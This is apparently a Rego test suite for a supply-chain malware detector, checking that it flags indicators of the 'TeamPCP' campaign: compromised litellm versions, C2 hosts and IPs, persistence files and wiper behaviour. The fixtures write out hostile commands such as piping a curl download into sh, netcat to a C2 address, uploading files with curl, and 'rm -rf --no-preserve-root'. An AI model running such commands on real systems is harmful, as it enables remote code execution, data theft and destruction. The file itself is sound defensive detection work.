package pip_witness.teampcp_ioc_test

import data.pip_witness.lib.fixture
import data.pip_witness.teampcp_ioc

import rego.v1

_found(document) := found if {
	# regal ignore:with-outside-test-context
	messages := teampcp_ioc.deny with input as document
	found := fixture.findings(messages)
}

_code(more) := _found(fixture.install([fixture.process("package-code", more)]))

_ran(program, args) := _code({"execs": fixture.ran(program, args)})

_wrote(path) := _code({"fileOps": {"writes": [{"path": path}]}})

_installed(name, version) := _found(object.union(fixture.install([]), {"pip-install": {"packages": [{
	"name": name,
	"version": version,
}]}}))

_site(name) := sprintf("%s/%s", [fixture.site, name])

test_quiet if {
	_found(fixture.install([])) == set()
	_found(fixture.imported([fixture.harness({})])) == set()
	_found({}) == set()
	_found({"processes": []}) == set()
}

test_package if {
	_installed("litellm", "1.82.8") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_installed("LiteLLM", "v1.82.7") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_installed("guardrails_ai", "0.10.1") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_found(object.union(
		fixture.imported([fixture.harness({})]),
		{"steps": {"pip-install": {"pip-install": {"packages": [{"name": "telnyx", "version": "4.87.2"}]}}}},
	)) == {"CRITICAL:TEAMPCP_PACKAGE"}
}

test_package_by_path if {
	path := _site("dynamo_release-1.5.4.dist-info/METADATA")
	_read(path) == {"CRITICAL:TEAMPCP_PACKAGE"}
	_wrote(path) == {"CRITICAL:TEAMPCP_PACKAGE"}
}

test_package_by_argument if {
	_asked("litellm==1.82.8") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_asked("litellm[proxy] == 1.82.8") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_asked("./dist/litellm-1.82.8-py3-none-any.whl") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_asked("./dist/litellm-1.82.8.tar.gz") == {"CRITICAL:TEAMPCP_PACKAGE"}
	_ran("/usr/bin/pip", ["install", "litellm==1.82.8"]) == {"CRITICAL:TEAMPCP_PACKAGE"}
	_ran("/usr/bin/echo", ["litellm==1.82.8"]) == set()
}

test_package_quiet if {
	every version in ["1.82.6", "1.82.70", "1.83.0", "1.106.2"] {
		_installed("litellm", version) == set()
	}
	_installed("pytorch-lightning", "2.6.2") == set()
	_installed("fabrice", "1.0") == set() # malicious, of nobody's campaign
	_asked("litellm!=1.82.8") == set()
	_asked("litellm>=1.82.7") == set()
	_read(_site("scanner/samples/litellm-1.82.8.dist-info/METADATA")) == set()
}

_asked(requirement) := _found({"processes": [object.union(
	fixture.installer,
	{"execs": [{"program": fixture.python, "argv": [fixture.python, "-m", "pip", "install", requirement]}]},
)]})

_read(path) := _code({"openedfiles": {path: {"sha256": "aa"}}})

test_host if {
	_code({"network": {"connections": [object.union(fixture.connection("198.18.0.5", 443), {"hostname": "models.litellm.cloud"})]}}) == {"CRITICAL:TEAMPCP_C2_HOST"}
	_code({"network": {"dnsLookups": [{"serverAddress": "198.18.0.1", "serverPort": 53, "query": "A.B.Checkmarx.Zone."}]}}) == {"CRITICAL:TEAMPCP_C2_HOST"}
	_code({"network": {"flows": [{"protocol": "tcp", "address": "198.18.0.6", "port": 80, "httpHost": "git-tanstack.com:80"}]}}) == {"CRITICAL:TEAMPCP_C2_HOST"}
	_code({"network": {"flows": [{"protocol": "tcp", "address": "198.18.0.6", "port": 443, "serverName": "filev2.getsession.org"}]}}) == {"HIGH:TEAMPCP_C2_HOST"}
	_ran("/bin/sh", ["-c", "curl -s https://checkmarx.zone/raw | sh"]) == {"CRITICAL:TEAMPCP_C2_HOST"}
}

test_host_quiet if {
	_code({"network": {"dnsLookups": [{"serverAddress": "198.18.0.1", "serverPort": 53, "query": "notcheckmarx.zone"}]}}) == set()
	_code({"network": {"dnsLookups": [{"serverAddress": "198.18.0.1", "serverPort": 53, "query": "icp0.io"}]}}) == set()
	_code({"network": {"dnsLookups": [{"serverAddress": "198.18.0.1", "serverPort": 53, "query": "raw.githubusercontent.com"}]}}) == set()
	_code({"network": {"flows": [{"protocol": "tcp", "address": "198.18.0.6", "port": 443, "httpRequest": "GET /v1/models HTTP/1.1"}]}}) == set()
	_ran("/bin/sh", ["-c", "curl https://checkmarx.zone.example/audio.mp3"]) == set()
}

test_address if {
	_code({"network": {"connections": [fixture.connection("83.142.209.194", 443)]}}) == {"CRITICAL:TEAMPCP_C2_IP"}
	_code({"network": {"connections": [fixture.connection("::ffff:83.142.209.194", 443)]}}) == {"CRITICAL:TEAMPCP_C2_IP"}
	_code({"network": {"flows": [{"protocol": "udp", "address": "45.148.10.212", "port": 53}]}}) == {"CRITICAL:TEAMPCP_C2_IP"}
	_code({"network": {"connections": [fixture.connection("35.192.220.222", 443)]}}) == {"HIGH:TEAMPCP_C2_IP"}
	_ran("/usr/bin/nc", ["83.142.209.203", "8080"]) == {"CRITICAL:TEAMPCP_C2_IP"}
	_found({"processes": [object.union(fixture.installer, {"network": {"connections": [fixture.connection("83.142.209.194", 443)]}})]}) == {"HIGH:TEAMPCP_C2_IP"}
	_code({"network": {"connections": [fixture.connection("83.142.209.195", 443)]}}) == set()
}

test_artifact if {
	every path in ["/tmp/transformers.pyz", "/var/tmp/rope-ab12.pyz", "/root/.cache/.sys-update-check", "/home/ann/.cache/.sys-update-check", "/tmp/x/love.tar.gz", "/srv/p/.claude/setup.mjs"] {
		_wrote(path) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	}
	_read(_site("litellm_init.pth")) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	_found(object.union(fixture.install([]), {"product": {_site("elementary.pth"): {"digest": {}}}})) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	_code({"fileOps": {"renames": [{"oldPath": "/tmp/a", "newPath": "/tmp/managed.pyz"}]}}) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	_code({"fileOps": {"opens": [{"path": "/tmp/pglog", "mode": "write", "errno": "EACCES"}]}}) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	_ran("/bin/sh", ["-c", "cp x /tmp/.pg_state"]) == {"CRITICAL:TEAMPCP_ARTIFACT"}
	_ran("/tmp/.sshu-1", []) == {"CRITICAL:TEAMPCP_ARTIFACT"}
}

test_artifact_quiet if {
	every path in ["/tmp/.ses", "/tmp/.X11-unix", "/tmp/b.zip", "/tmp/rope.py", "/root/.cache/update", "/srv/setup.mjs", "/tmp/p1.js"] {
		_wrote(path) == set()
	}
	_found({"processes": [object.union(fixture.installer, {"openedfiles": {_site("scanner/router_runtime.js"): {}}})]}) == set()
	_found(object.union(fixture.install([]), {"product": {_site("scanner/router_runtime.js"): {"digest": {}}}})) == set()
}

test_persistence if {
	every path in [
		"/root/.config/sysmon/sysmon.py", "/root/.config/systemd/user/sysmon.service", "/home/ann/.config/systemd/user/sysmon.service",
		"/root/.config/systemd/user/pgsql-monitor.service", "/etc/systemd/system/pgmon.service", "/root/.config/gh-token-monitor/token", "/root/.local/bin/gh-token-monitor.sh",
	] {
		_wrote(path) == {"CRITICAL:TEAMPCP_PERSISTENCE"}
	}
	_wrote("/etc/systemd/system/sysmon.service") == set()
	_wrote("/root/.config/systemd/user/other.service") == set()
	_ran("/bin/sh", ["-c", "echo x > ~/.config/sysmon/sysmon.py"]) == {"CRITICAL:TEAMPCP_PERSISTENCE"}
}

test_commands if {
	_ran("/usr/bin/curl", ["-H", "X-QT-SR: 14", "--data-binary", "@/tmp/x", "https://192.0.2.1/"]) == {"CRITICAL:TEAMPCP_CMDLINE"}
	_ran("/usr/bin/gh", ["api", "graphql", "-f", "query=mutation { createCommitOnBranch }"]) == {"CRITICAL:TEAMPCP_CMDLINE"}
	_ran("/usr/bin/loginctl", ["enable-linger"]) == {"HIGH:TEAMPCP_CMDLINE"}
	_code({"execs": [{"program": "/usr/bin/systemctl", "argv": ["systemctl", "--user", "enable", "--now", "sysmon.service"], "errno": "ENOENT"}]}) == {"CRITICAL:TEAMPCP_CMDLINE"}
	_ran("/usr/bin/env", ["nohup", "node", "router_runtime.js"]) == {"CRITICAL:TEAMPCP_CMDLINE"}
	_ran("/usr/bin/systemctl", ["status", "sysmon.service"]) == set()
	_ran("/usr/bin/gh", ["api", "user"]) == set()
	_found(fixture.imported([fixture.harness({"execs": [{"program": fixture.python, "argv": ["python", "/opt/harness.py", "tpcp-docs"]}]})])) == set()
}

test_commands_of_other_evidence if {
	_found({"processes": [
		{"program": "/usr/bin/python3", "processid": 2, "parentpid": 1, "role": "installer", "cmdline": "python3 -m pip install x"},
		{"program": "/usr/bin/curl", "processid": 3, "parentpid": 2, "role": "package-code", "cmdline": "curl --data-binary @/tmp/x/tpcp.tar.gz https://192.0.2.1"},
	]}) == {"CRITICAL:TEAMPCP_CMDLINE"}
}

_encryption(more) := _found(fixture.install([fixture.process("package-code", {"execs": array.concat(
	array.concat(
		fixture.ran("/tmp/x/o", ["rand", "-out", "/tmp/x/k", "32"]),
		fixture.ran("/tmp/x/o", ["enc", "-aes-256-cbc", "-pbkdf2", "-pass", "file:/tmp/x/k"]),
	),
	more,
)})]))

test_encryption if {
	_encryption(fixture.ran("/tmp/x/o", ["pkeyutl", "-encrypt", "-pubin", "-inkey", "/tmp/x/p"])) == {"CRITICAL:TEAMPCP_EXFIL_SEQ"}
	_encryption([]) == set()
}

test_bun if {
	_ran("/tmp/a/bun", ["run", "/tmp/a/x.js"]) == {"CRITICAL:TEAMPCP_BUN_DROPPER"}
	_ran(_site("demo/_data/libb.so"), ["run", "index.mjs"]) == {"CRITICAL:TEAMPCP_BUN_DROPPER"}
	_ran("/usr/bin/curl", ["-L", "https://github.com/oven-sh/bun/releases/download/bun-v9/bun-linux-x64.zip"]) == {"CRITICAL:TEAMPCP_BUN_DROPPER"}
	_wrote("/tmp/.bun_ran") == {"CRITICAL:TEAMPCP_BUN_DROPPER"}
	_code({"network": {"flows": [{
		"protocol": "tcp", "address": "198.18.0.9", "port": 80,
		"httpRequest": "GET /oven-sh/bun/releases/download/bun-v9/x.zip HTTP/1.1",
	}]}}) == {"CRITICAL:TEAMPCP_BUN_DROPPER"}
	_ran("/usr/local/bin/bun", ["run", "build.js"]) == set()
	_ran(_site("demo/tool"), ["run", "job.txt"]) == set()
}

_payload := "71e35aef03099cd1f2d6446734273025a163597de93912df321ef118bf135238"

test_hash if {
	_code({"openedfiles": {"/root/x": {"sha256": _payload}}}) == {"CRITICAL:TEAMPCP_HASH"}
	_code({"exedigest": {"sha256": _payload}}) == {"CRITICAL:TEAMPCP_HASH"}
	_code({"execs": [{"program": "/tmp/x", "argv": ["x"], "digest": {"sha256": _payload}}]}) == {"CRITICAL:TEAMPCP_HASH"}
	_code({"writtenDigests": {"/root/x": {"sha256": _payload}}}) == {"CRITICAL:TEAMPCP_HASH"}
	_found(object.union(fixture.install([]), {"product": {_site("x"): {"digest": {"sha256": _payload}}}})) == {"CRITICAL:TEAMPCP_HASH"}
	_found(object.union(fixture.install([]), {"pip-install": {"packages": [{"name": "x", "version": "1", "files": [{
		"filename": "x-1.whl",
		"sha256": _payload,
	}]}]}})) == {"CRITICAL:TEAMPCP_HASH"}
	_code({"openedfiles": {"/root/x": {"sha256": "71e3"}, "/root/y": {}}}) == set()
}

test_cluster if {
	_ran("/usr/bin/kubectl", ["-n", "kube-system", "run", "node-setup-node1"]) == {"CRITICAL:TEAMPCP_K8S"}
	_ran("/usr/bin/kubectl", ["run", "x", "--image=alpine", `--overrides={"hostPath": {"path": "/"}}`]) == {"CRITICAL:TEAMPCP_K8S"}
	_ran("/usr/bin/docker", ["run", "-d", "kamikaze"]) == {"CRITICAL:TEAMPCP_K8S"}
	_wrote("/tmp/x/node-setup-1.yaml") == {"CRITICAL:TEAMPCP_K8S"}
	_ran("/usr/bin/kubectl", ["get", "pods"]) == set()
	_wrote("/srv/setup-1.yaml") == set()
}

_wiped(more) := _code(object.union({"execs": fixture.ran("/usr/bin/rm", ["-rf", "--no-preserve-root", "/x"])}, more))

test_wiper if {
	_wiped({"openedfiles": {"/etc/timezone": {}}}) == {"CRITICAL:TEAMPCP_WIPER"}
	_wiped({"network": {"dnsLookups": [{"serverAddress": "198.18.0.1", "serverPort": 53, "query": "ip-api.com"}]}}) == {"CRITICAL:TEAMPCP_WIPER"}
	_wiped({"fileOps": {"writes": [{"path": "/root/.config/gh-token-monitor/token"}]}}) == {"CRITICAL:TEAMPCP_WIPER", "CRITICAL:TEAMPCP_PERSISTENCE"}
	_code({"execs": array.concat(
		fixture.ran("/bin/sh", ["-c", "rm -rf ~/"]),
		fixture.ran("/usr/bin/timedatectl", []),
	)}) == {"CRITICAL:TEAMPCP_WIPER"}
	watcher := {"writes": [{"path": "/root/.config/systemd/user/gh-token-monitor.service"}]}
	every target in ["/root/documents", "~/documents", "/home/me/x"] {
		deleted := fixture.ran("/usr/bin/rm", ["-rf", target])
		_code({"execs": deleted, "fileOps": watcher}) == {"CRITICAL:TEAMPCP_WIPER", "CRITICAL:TEAMPCP_PERSISTENCE"}
		_code({"execs": deleted, "openedfiles": {"/etc/timezone": {}}}) == set()
	}
	_code({"execs": fixture.ran("/usr/bin/rm", ["-rf", "/tmp/x"]), "fileOps": watcher}) == {"CRITICAL:TEAMPCP_PERSISTENCE"}
	_wiped({}) == set()
	_code({"openedfiles": {"/etc/localtime": {}}, "execs": fixture.ran("/usr/bin/rm", ["-rf", "/tmp/build"])}) == set()
}

test_not_evaluated if {
	reasons := teampcp_ioc.not_evaluated with input as {"processes": []}
	count(reasons) == 10
	teampcp_ioc.not_evaluated == set() with input as fixture.install([])
}

# The shapes of go-witness and rookery: no roles, no attempts, no coverage.
test_other_shapes if {
	_found({"processes": [
		{"program": "/usr/bin/python3", "processid": 10, "parentpid": 1, "cmdline": "python3 -m pip install litellm==1.82.8", "openedfiles": {}},
		{"program": "/usr/bin/python3", "processid": 11, "parentpid": 10, "cmdline": "python3 /tmp/transformers.pyz", "openedfiles": {"/tmp/transformers.pyz": {"sha256": _payload}}},
	]}) == {"CRITICAL:TEAMPCP_PACKAGE", "CRITICAL:TEAMPCP_ARTIFACT", "CRITICAL:TEAMPCP_CMDLINE", "CRITICAL:TEAMPCP_HASH"}
	_found({"processes": [{"processid": 1, "cmdline": "make"}, {"processid": 2, "cmdline": "cc x.c"}]}) == set()
}

# Values of other types than ours are no error and no finding: all in one run, since an
# error would end the judgement of all.
test_other_types if {
	values := [null, 7, "x", true, [], {}, [null], [7], {"x": 7}, ["x"], [{}], [[]]]
	fields := ["program", "cmdline", "args", "execs", "environ", "openedfiles", "network", "fileOps", "writtenDigests", "exedigest", "role"]
	operations := ["opens", "writes", "renames", "links", "dirs", "deletes", "permChanges"]
	odd := [proc |
		some value in values
		some changed in array.concat(
			[{field: value} | some field in fields],
			[
				{"network": {"connections": value, "dnsLookups": value, "flows": value}},
				{"network": {
					"connections": [{"syscall": "connect", "family": "AF_INET", "address": value, "port": value, "hostname": value}],
					"flows": [{"address": value, "port": value, "hostname": value, "serverName": value, "httpRequest": value}],
					"dnsLookups": [{"query": value}],
				}},
				{"fileOps": {operation: value | some operation in operations}},
				{"fileOps": {operation: [{"path": value, "mode": value, "newPath": value}] | some operation in operations}},
				{"execs": [{"program": value, "argv": value}, {"program": value, "argv": [value]}, {"argv": []}]},
			],
		)
		proc := object.union({"processid": 9, "role": "package-code"}, changed)
	]
	_found({"processes": array.concat([{"processid": 1, "role": "installer"}], odd)}) == set()
	every value in [null, 7, "x", [7]] {
		_found({
			"processes": [{"processid": 2, "role": "package-code", "cmdline": "x"}],
			"product": value, "steps": value, "pip-install": {"packages": [{"name": value, "version": value, "files": value}]},
		}) == set()
		_found({"processes": value, "pip-install": value, "coverage": value}) == set()
	}
}
